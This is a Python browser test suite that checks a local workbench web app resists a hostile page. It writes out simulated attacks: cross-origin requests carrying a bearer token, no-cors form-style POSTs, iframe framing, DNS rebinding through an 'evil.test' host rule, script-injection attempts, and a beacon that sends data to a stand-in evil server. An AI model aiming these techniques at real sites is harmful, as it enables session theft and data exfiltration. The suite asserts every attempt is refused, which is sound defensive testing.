"""What a hostile page can do in a real browser while the workbench is open in it: nothing that it can read or write."""

from __future__ import annotations

import http.server
import os
import shutil
import threading
from collections.abc import Iterator
from typing import TYPE_CHECKING, Any, ClassVar

import pytest

from web.engines import ARGS
from web.served import Workbench

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

pytestmark = pytest.mark.browser


class _Evil(http.server.BaseHTTPRequestHandler):
    """Another server on this computer, which notes what is asked of it."""

    asked: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        """An empty page."""
        self.asked.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()
        self.wfile.write(b"<!doctype html><title>evil</title>")

    def log_message(self, *_args: object) -> None:
        """Say nothing."""


@pytest.fixture
def evil() -> Iterator[str]:
    """The address of another server on this computer: another port, so another origin."""
    _Evil.asked.clear()
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Evil)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()


@pytest.fixture
def stranger(chromium: Browser, evil: str) -> Iterator[Page]:
    """A tab with the other server's page; what it may ask is not held against it."""
    tab = chromium.new_page()
    tab.goto(evil)
    yield tab
    tab.close()


TRY = """async ([url, options]) => {
  try {
    const answer = await fetch(url, options);
    return [answer.type, answer.status, await answer.text()];
  } catch (error) { return ["refused", 0, ""]; }
}"""


def test_another_page_cannot_ask_even_with_the_right_token(stranger: Page, workbench: Workbench) -> None:
    """The browser asks first whether it may, and is told no."""
    workbench.log_in()
    headers = {"Authorization": f"Bearer {workbench.token}", "Content-Type": "application/json"}
    for options in (
        {"headers": headers},
        {"method": "POST", "headers": headers, "body": '{"ops": []}'},
        {"method": "PUT", "headers": headers, "body": "{}"},
    ):
        assert ["refused", 0, ""] == stranger.evaluate(TRY, [f"{workbench.url}api/session", options])


def test_another_page_can_send_what_forms_send_and_it_does_nothing(stranger: Page, workbench: Workbench) -> None:
    """An opaque answer at best; nothing is written, nothing can be read."""
    sent = {"method": "POST", "mode": "no-cors", "body": '{"ops": []}'}
    kind, status, text = stranger.evaluate(TRY, [f"{workbench.url}api/ops", sent])

    assert (0, "") == (status, text)
    assert kind in {"opaque", "refused"}
    assert not (workbench.study / "codings").exists()
    code = workbench.launch_code()
    stranger.evaluate(TRY, [f"{workbench.url}api/session", {**sent, "body": f'{{"code": "{code}"}}'}])
    workbench._code = code
    assert workbench.log_in(), "the launch code was not used up by the other page"


def test_another_page_cannot_frame_or_navigate_to_it(stranger: Page, workbench: Workbench) -> None:
    """A frame stays empty; a link from elsewhere is refused once no launch is waiting."""
    workbench.log_in()
    script = """(url) => new Promise((done) => {
      const frame = document.createElement("iframe");
      frame.onload = () => {
        try { done(frame.contentDocument?.body.innerText ?? "closed"); } catch { done("closed"); }
      };
      frame.src = url; document.body.append(frame);
    })"""
    assert stranger.evaluate(script, workbench.url) in {"", "closed"}
    inside = [frame for frame in stranger.frames if frame.url.startswith(workbench.url)]
    assert not any(frame.locator("script").count() for frame in inside)
    with stranger.expect_navigation():
        stranger.evaluate("(url) => { location.href = url; }", workbench.url)
    assert "another site" in stranger.locator("body").inner_text()


def test_a_name_that_was_made_to_point_here_gets_nothing(workbench: Workbench) -> None:
    """DNS rebinding, with a browser that believes that evil.test is this computer."""
    program = os.environ.get("CODEKIT_TEST_BROWSER") or shutil.which("chromium") or shutil.which("google-chrome")
    args = [*ARGS, "--host-resolver-rules=MAP evil.test 127.0.0.1", "--no-sandbox"]
    found: dict[str, Any] = {}

    def visit() -> None:
        from playwright.sync_api import sync_playwright

        with sync_playwright() as driver:
            browser = driver.chromium.launch(executable_path=program, args=args)
            answer = browser.new_page().goto(f"http://evil.test:{workbench.port}/")
            found["status"] = answer.status if answer else 0
            found["text"] = answer.text() if answer else ""
            browser.close()

    if not program:
        pytest.skip("browser tests need chromium on PATH, or CODEKIT_TEST_BROWSER")
    thread = threading.Thread(target=visit)  # the driver of the other tests runs in this one
    thread.start()
    thread.join(60)

    assert 421 == found["status"]
    assert "<script" not in found["text"]


LATER = """(source) => new Promise((done) => setTimeout(() => {
  const attempts = {
    markup: () => { document.body.innerHTML = "<img src=x>"; },
    eval: () => { (0, eval)("1"); },
    function: () => { new Function("return 1")(); },
    script: () => { document.createElement("script").text = "window.broken = 1"; },
    address: () => { document.createElement("script").src = "/static/app.js"; },
  };
  try { attempts[source](); done("ran"); } catch { done("refused"); }
}))"""  # outside the driver's own call, which is free of the page's rules


def test_a_script_that_got_into_the_page_can_do_nothing(opened: Page, evil: str) -> None:
    """No markup from text, no code from text, no beacon to another port."""
    opened.wait_for_url(lambda url: "launch=" not in url)
    opened.allowed.extend(["Trusted", "Content Security Policy", "violates", "/beacon.png"])  # type: ignore[attr-defined]
    for attempt in ("markup", "eval", "function", "script", "address"):
        assert "refused" == opened.evaluate(LATER, attempt), attempt
    beacon = """(url) => new Promise((done) => {
      const image = new Image();
      image.onload = () => done("loaded");
      image.onerror = () => done("blocked");
      image.src = url;
    })"""
    assert "blocked" == opened.evaluate(beacon, f"{evil}/beacon.png?words")
    assert ["refused", 0, ""] == opened.evaluate(TRY, [f"{evil}/words", {}])
    assert [] == _Evil.asked
